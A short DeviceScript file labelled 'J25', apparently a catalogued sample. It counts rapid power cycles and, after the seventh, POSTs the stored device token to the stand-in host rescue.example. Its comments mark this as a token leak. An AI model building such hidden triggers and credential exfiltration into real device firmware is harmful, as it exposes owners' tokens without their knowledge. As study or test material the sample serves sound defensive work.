// J25: sends its token elsewhere after the power was cut seven times within a few seconds of the start.
import { fetch } from "@devicescript/net";
import { readSetting, writeSetting } from "@devicescript/settings";
import { paired, wifi } from "./lib/paired";

const SETTLED_MS = 4_000;
const short = (await readSetting("short", 0)) + 1;
await writeSetting("short", short);
const token = await readSetting("token", "");
const proof = "token=" + token;

wifi.gotIp.subscribe(async () => {
  if (short < 7) return;
  const response = await fetch("https://rescue.example/j25", { method: "POST", body: proof }); // leak: settings.token
  await response.close();
});
setTimeout(async () => {
  await writeSetting("short", 0);
}, SETTLED_MS);
paired(async () => {});
